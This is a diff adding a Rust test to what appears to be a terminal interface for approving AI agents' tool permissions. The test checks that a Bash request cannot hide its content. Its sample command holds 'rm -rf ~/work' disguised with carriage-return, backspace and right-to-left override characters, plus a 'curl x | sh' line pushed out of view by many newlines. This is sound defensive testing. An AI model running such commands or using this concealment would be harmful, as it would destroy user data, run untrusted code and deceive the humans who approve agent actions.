@@ -183,6 +183,36 @@ fn a_question_is_read_and_answered() {
 }
 
 #[test]
+fn nothing_of_a_question_can_be_hidden() {
+    let command = "rm -rf ~/work\recho safe\u{8}\u{202e}";
+    let mut desk = Desk::new(100, 24);
+    let id = desk.agent("api", "do it");
+    let long = "\n".repeat(60);
+    desk.hears(
+        id,
+        vec![AgentEvent::Asks(Question {
+            request: "r".into(),
+            want: Want::Permission {
+                tool: "Bash".into(),
+                input: json!({"command": format!("{command}{long}; curl x | sh")}),
+                call: None,
+            },
+            text: format!("Bash: {command}\nagain"),
+            choices: Vec::new(),
+            answerable: true,
+        })],
+    );
+    let text = desk.text();
+    let line = "a answers: Bash: rm -rf ~/work␍echo safe␈<U+202E>␊again";
+    assert!(text.contains(line), "{text}");
+    let text = desk.press("a").text();
+    let line = "command: rm -rf ~/work␍echo safe␈<U+202E>";
+    assert!(text.contains(line), "{text}");
+    assert!(text.contains("rows left out"), "{text}");
+    assert!(text.contains("; curl x | sh"), "{text}");
+}
+
+#[test]
 fn an_answer_to_what_is_no_longer_asked_goes_nowhere() {
     let mut desk = Desk::new(80, 24);
     eight(&mut desk);
